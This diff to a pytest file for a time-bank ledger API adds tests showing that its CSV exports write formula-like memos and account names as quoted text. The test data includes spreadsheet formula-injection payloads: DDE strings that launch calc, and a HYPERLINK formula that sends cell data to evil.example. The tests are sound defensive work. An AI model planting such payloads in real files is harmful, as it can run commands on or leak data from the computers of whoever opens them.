@@ -18,12 +18,80 @@ from pathlib import Path
 import pytest
 from sqlalchemy import text
 
-from tests.support.api import COMMUNITY, MEMBER_START_MINUTES, World, open_world
+from api import bootstrap, drafts, provisioning
+from api.access import Role
+from ledger.audit.csv_cells import FORMULA_STARTS
+from ledger.ids import new_entry_id
+from ledger.model import AccountType, Entry
+from tests.support.api import (
+    COMMUNITY,
+    MEMBER_START_MINUTES,
+    ORG_BUDGET_MINUTES,
+    START,
+    World,
+    open_world,
+)
 from tests.support.api_checks import problem
 from tests.support.shop_payments import a_payment
 
 ROOT = Path(__file__).resolve().parents[2]
 NOVEMBER = "2026-11"
+# What a spreadsheet would run (OWASP "CSV injection"), one per character a formula starts with.
+FORMULAS = [f"{start}SUM(1+1)*cmd|' /C calc'!A0" for start in FORMULA_STARTS]
+# Memos must be printable (a tab or carriage return is text_invalid), so these four reach a memo.
+MEMO_FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A2,"klik")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-30",
+]
+
+
+def open_named(world: World, type: AccountType, name: str) -> str:
+    """A new organisation's or shop's account named ``name``, opened as the admin API opens
+    one (which also refuses a tab or carriage return as unprintable: the CSVs do not rely
+    on that)."""
+    actor = world.admin.staff_id
+    assert actor is not None
+    budget = ORG_BUDGET_MINUTES if type is AccountType.ORGANISATION else None
+
+    async def open_() -> str:
+        row = await provisioning.open_named_account(
+            world.rt, COMMUNITY, type, name, actor, provisioning.account_plan(type), budget
+        )
+        return row.account_id
+
+    return world.run(open_)
+
+
+def pay_shop(world: World, shop: str, minutes: int) -> Entry:
+    """Member 0 pays ``shop`` (a redeem entry), as the pay flows book it."""
+    account = world.members[0].account
+    assert account is not None
+
+    async def book() -> Entry:
+        draft = drafts.redeem(new_entry_id(), account, account, shop, minutes, "", "code:123456")
+        return await drafts.append(world.rt.ledger, COMMUNITY, draft)
+
+    return world.run(book)
+
+
+def issue(world: World, org: str, minutes: int) -> Entry:
+    """A new coordinator of ``org`` records ``minutes`` of work for member 1."""
+    account = world.members[1].account
+    assert account is not None
+
+    async def book() -> Entry:
+        coordinator = await bootstrap.person_for_token(
+            world.rt, role=Role.COORDINATOR, community=COMMUNITY, name="Coordinator", scope=org
+        )
+        assert coordinator.staff_id is not None
+        meta = drafts.earn_meta("boodschappen", START.date(), None)
+        draft = drafts.earn(new_entry_id(), coordinator.staff_id, org, account, minutes, meta, "")
+        return await drafts.append(world.rt.ledger, COMMUNITY, draft)
+
+    return world.run(book)
 
 
 def buurtmunt(*args: str) -> subprocess.CompletedProcess[str]:
@@ -177,6 +245,36 @@ async def test_the_entries_csv_has_a_row_per_posting_by_seq_range_and_by_period(
         assert everything.headers["content-type"].startswith("text/csv")
 
 
+async def test_the_entries_csv_writes_memos_a_spreadsheet_would_run_as_text(
+    database_url: str,
+) -> None:
+    async with open_world(database_url) as world:
+        memos = [*MEMO_FORMULAS, "Boodschappen - bedankt!", ""]
+        sent = []
+        for memo in memos:
+            given = await world.post(
+                "/api/v1/transfers",
+                {"payee": world.members[1].account, "amount_minutes": 30, "memo": memo},
+                as_=world.member,
+            )
+            assert given.status_code == 201, given.text
+            sent.append(given.json()["id"])
+        unprintable = await world.post(
+            "/api/v1/transfers",
+            {"payee": world.members[1].account, "amount_minutes": 30, "memo": "\t=1+1"},
+            as_=world.member,
+        )
+
+        answer = await world.get("/api/v1/exports/entries.csv", as_=world.auditor)
+
+        problem(unprintable, 422, "text_invalid")
+        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(answer.text))}
+        written = [rows[entry_id]["memo"] for entry_id in sent]
+        assert written == [*("'" + memo for memo in MEMO_FORMULAS), "Boodschappen - bedankt!", ""]
+        assert {rows[entry_id]["amount_minutes"] for entry_id in sent} == {"30"}
+        assert {rows[entry_id]["payee"] for entry_id in sent} == {world.members[1].account}
+
+
 async def test_the_balances_csv_holds_every_account_at_the_head_checkpoint(
     database_url: str,
 ) -> None:
@@ -218,6 +316,63 @@ async def test_the_downloaded_bundle_unpacks_and_passes_buurtmunt_verify(
         verified = buurtmunt("verify", str(tmp_path / directory), "--key", key)
         assert verified.returncode == 0, verified.stdout + verified.stderr
         assert left == set(), "the server's temporary copy is removed once sent"
+
+
+async def test_the_balances_csv_writes_names_a_spreadsheet_would_run_as_text(
+    database_url: str,
+) -> None:
+    async with open_world(database_url) as world:
+        shops = {open_named(world, AccountType.SHOP, name): name for name in FORMULAS}
+        earned = await world.post(
+            "/api/v1/earnings",
+            {
+                "member": world.members[0].account,
+                "amount_minutes": 30,
+                "activity": "boodschappen",
+                "worked_on": "2026-11-27",
+            },
+            as_=world.coordinator_b,
+        )
+
+        answer = await world.get("/api/v1/exports/balances.csv", as_=world.auditor)
+
+        assert earned.status_code == 201, earned.text
+        rows = {r["account"]: r for r in csv.DictReader(io.StringIO(answer.text))}
+        assert {rows[account]["name"] for account in shops} == {"'" + n for n in FORMULAS}
+        assert (rows[world.org_b]["name"], rows[world.org_b]["balance_minutes"]) == (
+            "Welzijn",
+            "-30",
+        )
+        assert rows[world.shop]["name"] == "Slagerij"
+        assert sum(int(r["balance_minutes"]) for r in rows.values()) == 0
+
+
+async def test_the_statement_csv_writes_names_a_spreadsheet_would_run_as_text(
+    database_url: str,
+) -> None:
+    async with open_world(database_url) as world:
+        shops = {open_named(world, AccountType.SHOP, name): name for name in FORMULAS}
+        orgs = {open_named(world, AccountType.ORGANISATION, name): name for name in FORMULAS}
+        for shop in shops:
+            pay_shop(world, shop, 10)
+        earnings = [issue(world, org, 60) for org in orgs]
+        corrected = await world.post(
+            "/api/v1/corrections",
+            {"entry_id": earnings[0].id, "amount_minutes": 30, "reason": "-30 te veel"},
+            as_=world.admin,
+        )
+
+        document = json.loads(await a_statement(world, "json"))
+        table = list(csv.DictReader(io.StringIO(await a_statement(world, "csv"))))
+
+        assert corrected.status_code == 201, corrected.text
+        names = {r["item"]: r["name"] for r in table if r["section"] in ("organisation", "shop")}
+        assert {names[account] for account in [*shops, *orgs]} == {"'" + n for n in FORMULAS}
+        assert (names[world.org], names[world.shop]) == ("Buurthuis", "Slagerij")
+        figures = {(r["section"], r["figure"]): r["minutes"] for r in table if not r["month"]}
+        assert figures[("circulation", "corrections")] == "-30"
+        # The JSON form has no spreadsheet to fear: its names are as the directory holds them.
+        assert {line["name"] for line in document["shops"]} == {*FORMULAS, "Slagerij"}
 
 
 @pytest.mark.parametrize("tamper", [None, "entry", "proof"])
